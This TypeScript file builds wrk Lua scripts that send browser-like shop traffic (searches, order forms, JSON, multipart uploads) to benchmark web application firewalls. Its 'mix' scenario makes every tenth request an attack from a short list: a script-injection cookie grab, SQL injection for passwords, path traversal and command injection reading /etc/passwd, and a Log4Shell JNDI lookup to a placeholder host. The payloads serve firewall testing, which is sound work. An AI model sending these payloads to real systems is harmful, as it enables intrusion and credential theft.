/**
 * What is sent to the firewalls: ordinary requests as browsers make them, each kind as a script for wrk.
 *
 * A counter runs through texts, identifiers and times, so that no request is quite like the one before; names,
 * browser and session stay, as they do in life.
 */

export interface WafTraffic {
  readonly name: string;
  readonly title: string;
  /** Lua for wrk. */
  readonly script: string;
}

const HEADERS = `local headers = {
  ["Host"] = "shop.example.org",
  ["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
  ["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
  ["Accept-Language"] = "en-GB,en;q=0.7,de;q=0.3",
  ["Accept-Encoding"] = "gzip, deflate, br, zstd",
  ["Referer"] = "https://shop.example.org/catalogue/shoes?colour=red",
  ["Cookie"] = "session=6f1ed002ab5595859014ebf0951522d9; consent=necessary-2026-03",
  ["Sec-Fetch-Mode"] = "navigate",
}
local function with(kind)
  local all = {}
  for name, value in pairs(headers) do all[name] = value end
  all["Content-Type"] = kind
  return all
end
local n = 0
`;

const GET_BODY = `  n = n + 1
  local path = "/catalogue/search?q=red+running+shoes+" .. n .. "&page=" .. n % 40 ..
    "&sort=price&t=" .. 1700000000 + n
  return wrk.format("GET", path, headers)
`;

/** Attacks of several classes; each ends in a text that the counter changes. */
const ATTACKS = [
  '/catalogue/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E',
  '/item?id=1%27%20union%20select%20login%2Cpassword%20from%20users--%20',
  '/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd&n=',
  '/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd&n=',
  '/item?id=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D&n=',
];

/** @param parts of the text that the script joins with a counter */
function post(kind: string, body: string): string {
  return `${HEADERS}local posting = with(${JSON.stringify(kind)})
request = function()
  n = n + 1
  return wrk.format("POST", "/orders", posting, ${body})
end
`;
}

const WORDS = 'Please leave the parcel with our neighbours on the second floor if nobody answers the bell. ';

const FORM = `"name=Ada+Lovelace&street=12+St.+James%27s+Square&city=London&zip=SW1Y+4JH&country=GB" ..
    "&email=ada%40example.org&phone=%2B44+20+7946+0958&order=" .. n .. "&quantity=2&size=38" ..
    "&note=${encodeURIComponent(WORDS.repeat(7)).replaceAll('%20', '+')}&total=" .. n % 900 .. ".95"`;

const JSON_BODY = `'{"order":' .. n .. ',"customer":{"name":"Ada Lovelace","email":"ada@example.org",' ..
    '"address":{"street":"12 St. James\\'s Square","city":"London","country":"GB"}},"items":[' ..
    '{"sku":"SH-' .. n % 5000 .. '","quantity":2,"price":79.95},{"sku":"SO-' .. n % 700 .. '","quantity":1,"price":9.5}],' ..
    '"note":"${WORDS.repeat(5)}","newsletter":false,"time":' .. 1700000000 + n .. '}'`;

function part(name: string, content: string): string {
  return `--b0undary7\\r\\nContent-Disposition: form-data; name=\\"${name}\\"\\r\\n\\r\\n${content}\\r\\n`;
}

const MULTIPART = `"${part('title', 'Holiday pictures')}${part('note', WORDS.repeat(3))}" ..
    "--b0undary7\\r\\nContent-Disposition: form-data; name=\\"picture\\"; filename=\\"beach-" .. n .. ".png\\"\\r\\n" ..
    "Content-Type: image/png\\r\\n\\r\\n\\137PNG" .. string.rep("x", 600) .. "\\r\\n--b0undary7--\\r\\n"`;

export const WAF_TRAFFIC: readonly WafTraffic[] = [
  {
    name: 'get',
    title: 'GET, 4 arguments, 2 cookies',
    script: `${HEADERS}request = function()\n${GET_BODY}end\n`,
  },
  { name: 'form', title: 'POST, form of 1 KiB', script: post('application/x-www-form-urlencoded', FORM) },
  { name: 'json', title: 'POST, JSON of 0.8 KiB', script: post('application/json', JSON_BODY) },
  {
    name: 'multipart',
    title: 'POST, multipart of 1.3 KiB',
    script: post('multipart/form-data; boundary=b0undary7', MULTIPART),
  },
  {
    name: 'mix',
    title: 'GET, every tenth an attack',
    script: `${HEADERS}local attacks = { ${ATTACKS.map((attack) => JSON.stringify(attack)).join(', ')} }
request = function()
  if n % 10 == 9 then
    n = n + 1
    return wrk.format("GET", attacks[n / 10 % #attacks + 1] .. n, headers)
  end
${GET_BODY}end
`,
  },
];
